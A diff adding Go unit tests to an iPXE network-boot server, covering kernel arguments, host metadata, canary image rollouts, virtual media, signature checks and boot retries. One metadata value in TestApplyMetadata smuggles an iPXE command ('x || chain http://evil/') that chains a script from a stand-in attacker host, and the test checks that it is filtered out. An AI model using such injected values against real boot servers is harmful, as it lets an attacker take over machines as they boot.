@@ -1,8 +1,17 @@
 package script
 
 import (
+	"log/slog"
 	"net"
+	"net/http"
+	"net/http/httptest"
+	"slices"
 	"testing"
+
+	"github.com/metal3-community/metal-boot/internal/canary"
+	"github.com/metal3-community/metal-boot/internal/config"
+	"github.com/metal3-community/metal-boot/internal/hoststate"
+	"github.com/metal3-community/metal-boot/internal/imagecatalog"
 )
 
 func TestGetMAC(t *testing.T) {
@@ -82,3 +91,226 @@ func TestGetMAC(t *testing.T) {
 		})
 	}
 }
+
+func TestApplyKernelArgs(t *testing.T) {
+	mac, _ := net.ParseMAC("d8:3a:dd:5a:44:36")
+	hosts, err := hoststate.NewStore("")
+	if err != nil {
+		t.Fatalf("NewStore() error = %v", err)
+	}
+	if err := hosts.Update(mac, func(h *hoststate.Host) {
+		h.KernelArgs = hoststate.KernelArgs{Add: []string{"debug"}, Remove: []string{"quiet"}}
+	}); err != nil {
+		t.Fatalf("Update() error = %v", err)
+	}
+
+	cfg := &config.Config{}
+	cfg.IpxeHttpScript.ExtraKernelArgs = []string{"console=ttyS0"}
+	h := &scriptHandler{logger: slog.New(slog.DiscardHandler), config: cfg, hosts: hosts}
+
+	script := "#!ipxe\nkernel --name vmlinuz http://x/vmlinuz quiet ip=dhcp\ninitrd http://x/initrd\nboot\n"
+	want := "#!ipxe\nkernel --name vmlinuz http://x/vmlinuz ip=dhcp console=ttyS0 debug\ninitrd http://x/initrd\nboot\n"
+
+	if got := string(h.applyKernelArgs(mac, []byte(script))); got != want {
+		t.Errorf("applyKernelArgs() =\n%s\nwant\n%s", got, want)
+	}
+
+	script = "#!ipxe\n:retry_kernel\nkernel http://x/vmlinuz quiet ip=dhcp  ||  goto retry_kernel\nboot\n"
+	want = "#!ipxe\n:retry_kernel\nkernel http://x/vmlinuz ip=dhcp console=ttyS0 debug  ||  goto retry_kernel\nboot\n"
+
+	if got := string(h.applyKernelArgs(mac, []byte(script))); got != want {
+		t.Errorf("applyKernelArgs() with || =\n%s\nwant\n%s", got, want)
+	}
+}
+
+func TestApplyMetadata(t *testing.T) {
+	mac, _ := net.ParseMAC("d8:3a:dd:5a:44:36")
+	hosts, err := hoststate.NewStore("")
+	if err != nil {
+		t.Fatalf("NewStore() error = %v", err)
+	}
+	h := &scriptHandler{logger: slog.New(slog.DiscardHandler), config: &config.Config{}, hosts: hosts}
+
+	script := "#!ipxe\nkernel http://x/vmlinuz ds=nocloud;h=${meta-rack}\nboot\n"
+	if got := string(h.applyMetadata(mac, []byte(script))); got != script {
+		t.Errorf("applyMetadata() without metadata =\n%s\nwant\n%s", got, script)
+	}
+
+	if err := hosts.Update(mac, func(h *hoststate.Host) {
+		h.Metadata = map[string]string{"rack": "r1", "owner": "infra team", "evil": "x || chain http://evil/"}
+	}); err != nil {
+		t.Fatalf("Update() error = %v", err)
+	}
+	want := "#!ipxe\nset meta-owner infra team\nset meta-rack r1\n" +
+		"kernel http://x/vmlinuz ds=nocloud;h=${meta-rack}\nboot\n"
+	if got := string(h.applyMetadata(mac, []byte(script))); got != want {
+		t.Errorf("applyMetadata() =\n%s\nwant\n%s", got, want)
+	}
+}
+
+func TestApplyCanaryImages(t *testing.T) {
+	mac, _ := net.ParseMAC("d8:3a:dd:5a:44:36")
+	hosts, err := hoststate.NewStore("")
+	if err != nil {
+		t.Fatalf("NewStore() error = %v", err)
+	}
+	images, _ := imagecatalog.New("")
+	for _, img := range []imagecatalog.Image{
+		{Name: "ipa-kernel", Kind: imagecatalog.KindKernel, URL: "http://x/ipa-1/vmlinuz"},
+		{Name: "ipa-kernel-2", Kind: imagecatalog.KindKernel, URL: "http://x/ipa-2/vmlinuz"},
+	} {
+		if _, err := images.Create(img); err != nil {
+			t.Fatalf("Create() error = %v", err)
+		}
+	}
+	rollouts, _ := canary.New("")
+	h := &scriptHandler{
+		logger:   slog.New(slog.DiscardHandler),
+		config:   &config.Config{},
+		hosts:    hosts,
+		images:   images,
+		rollouts: rollouts,
+	}
+
+	script := "#!ipxe\nkernel ${image-ipa-kernel}\nboot\n"
+	want := "#!ipxe\nset image-ipa-kernel http://x/ipa-1/vmlinuz\n" +
+		"set image-ipa-kernel-2 http://x/ipa-2/vmlinuz\n" +
+		"kernel ${image-ipa-kernel}\nboot\n"
+	if got, names := h.applyImages(mac, []byte(script)); string(got) != want || names != nil {
+		t.Errorf("applyImages() without rollouts =\n%s%v\nwant\n%s", got, names, want)
+	}
+
+	if _, _, err := rollouts.Put(canary.Rollout{
+		Name:    "ipa-2",
+		Match:   map[string]string{"rack": "r1"},
+		Percent: 100,
+		Images:  map[string]string{"ipa-kernel": "ipa-kernel-2"},
+	}); err != nil {
+		t.Fatalf("Put() error = %v", err)
+	}
+	if got, _ := h.applyImages(mac, []byte(script)); string(got) != want {
+		t.Errorf("applyImages() outside the host group =\n%s\nwant\n%s", got, want)
+	}
+
+	if err := hosts.Update(mac, func(h *hoststate.Host) {
+		h.Metadata = map[string]string{"rack": "r1"}
+	}); err != nil {
+		t.Fatalf("Update() error = %v", err)
+	}
+	want = "#!ipxe\nset image-ipa-kernel http://x/ipa-2/vmlinuz\n" +
+		"set image-ipa-kernel-2 http://x/ipa-2/vmlinuz\n" +
+		"kernel ${image-ipa-kernel}\nboot\n"
+	got, names := h.applyImages(mac, []byte(script))
+	if string(got) != want || !slices.Equal(names, []string{"ipa-2"}) {
+		t.Errorf("applyImages() in the canary =\n%s%v\nwant\n%s", got, names, want)
+	}
+}
+
+func TestVirtualMediaScript(t *testing.T) {
+	mac, _ := net.ParseMAC("d8:3a:dd:5a:44:36")
+	hosts, err := hoststate.NewStore("")
+	if err != nil {
+		t.Fatalf("NewStore() error = %v", err)
+	}
+	if err := hosts.InsertMedia(mac, "http://images/boot.iso"); err != nil {
+		t.Fatalf("InsertMedia() error = %v", err)
+	}
+	cfg := &config.Config{}
+	h := &scriptHandler{logger: slog.New(slog.DiscardHandler), config: cfg, hosts: hosts}
+	r := httptest.NewRequest(http.MethodGet, "http://boot:8080/auto.ipxe?token=abc", nil)
+
+	got, err := h.script(r, mac, false)
+	if err != nil {
+		t.Fatalf("script() error = %v", err)
+	}
+	want := "#!ipxe\nsanboot --no-describe http://images/boot.iso\n"
+	if string(got.Script) != want || got.Profile != "virtual-media" {
+		t.Errorf("script() = %q (%s), want %q", got.Script, got.Profile, want)
+	}
+
+	cfg.Iso.Enabled = true
+	got, _ = h.script(r, mac, false)
+	want = "#!ipxe\nsanboot --no-describe " +
+		"http://boot:8080/iso/d8:3a:dd:5a:44:36/virtual-media.iso?token=abc\n"
+	if string(got.Script) != want {
+		t.Errorf("script() through the ISO handler = %q, want %q", got.Script, want)
+	}
+}
+
+func TestApplyVerification(t *testing.T) {
+	script := "#!ipxe\n" +
+		"kernel --name vmlinuz ${base}/vmlinuz?v=2 ip=dhcp\n" +
+		"  initrd http://x/images/initrd.img\n" +
+		"boot\n"
+	want := "#!ipxe\n" +
+		"kernel --name vmlinuz ${base}/vmlinuz?v=2 ip=dhcp\n" +
+		"imgverify vmlinuz ${base}/vmlinuz.sig?v=2 || goto verify_failed\n" +
+		"  initrd http://x/images/initrd.img\n" +
+		"  imgverify initrd.img http://x/images/initrd.img.sig || goto verify_failed\n" +
+		"boot\n" +
+		"exit\n\n:verify_failed\necho Image signature verification failed\nshell\n"
+
+	if got := string(applyVerification([]byte(script))); got != want {
+		t.Errorf("applyVerification() =\n%s\nwant\n%s", got, want)
+	}
+
+	plain := "#!ipxe\nchain http://x/next.ipxe\n"
+	if got := string(applyVerification([]byte(plain))); got != plain {
+		t.Errorf("applyVerification() changed a script without downloads:\n%s", got)
+	}
+}
+
+func TestApplyRetries(t *testing.T) {
+	script := "#!ipxe\nkernel http://x/vmlinuz ip=dhcp\necho booting\nboot || shell\n"
+	policy := config.ScriptRetryPolicy{
+		Retries:      2,
+		RetryDelay:   3,
+		RetryBackoff: true,
+		Fallback:     config.ScriptFallbackRescue,
+		RescueURL:    "http://x/rescue.ipxe",
+	}
+	want := "#!ipxe\n" +
+		"set metalboot-tries 0\n" +
+		":metalboot_retry\n" +
+		"kernel http://x/vmlinuz ip=dhcp || goto metalboot_failed\n" +
+		"echo booting\n" +
+		"boot || shell\n" +
+		"exit\n\n" +
+		":metalboot_failed\n" +
+		"inc metalboot-tries\n" +
+		"iseq ${metalboot-tries} 1 && echo Boot failed, retry 1 of 2 in 3 seconds ||\n" +
+		"iseq ${metalboot-tries} 1 && sleep 3 && goto metalboot_retry ||\n" +
+		"iseq ${metalboot-tries} 2 && echo Boot failed, retry 2 of 2 in 6 seconds ||\n" +
+		"iseq ${metalboot-tries} 2 && sleep 6 && goto metalboot_retry ||\n" +
+		"goto metalboot_fallback\n\n" +
+		":metalboot_fallback\n" +
+		"echo Boot failed, chaining rescue script\n" +
+		"chain http://x/rescue.ipxe || shell\n"
+
+	got := applyRetries([]byte(script), policy)
+	if string(got) != want {
+		t.Errorf("applyRetries() =\n%s\nwant\n%s", got, want)
+	}
+	if args := (Rendered{Script: got}).KernelArgs(); !slices.Equal(args, []string{"ip=dhcp"}) {
+		t.Errorf("KernelArgs() = %v, want [ip=dhcp]", args)
+	}
+
+	if got := string(applyRetries([]byte(script), config.ScriptRetryPolicy{})); got != script {
+		t.Errorf("applyRetries() without retries changed the script:\n%s", got)
+	}
+	plain := "#!ipxe\necho nothing to boot\n"
+	if got := string(applyRetries([]byte(plain), policy)); got != plain {
+		t.Errorf("applyRetries() changed a script without downloads:\n%s", got)
+	}
+
+	cfg := config.IpxeHttpScript{
+		Retries:  3,
+		Profiles: map[string]config.ScriptRetryPolicy{"inspector": {Fallback: config.ScriptFallbackReboot}},
+	}
+	if p := cfg.RetryPolicy("config"); p.Retries != 3 {
+		t.Errorf("RetryPolicy(config) = %+v, want the defaults", p)
+	}
+	if p := cfg.RetryPolicy("inspector"); p.Retries != 0 || p.Fallback != config.ScriptFallbackReboot {
+		t.Errorf("RetryPolicy(inspector) = %+v, want the profile policy", p)
+	}
+}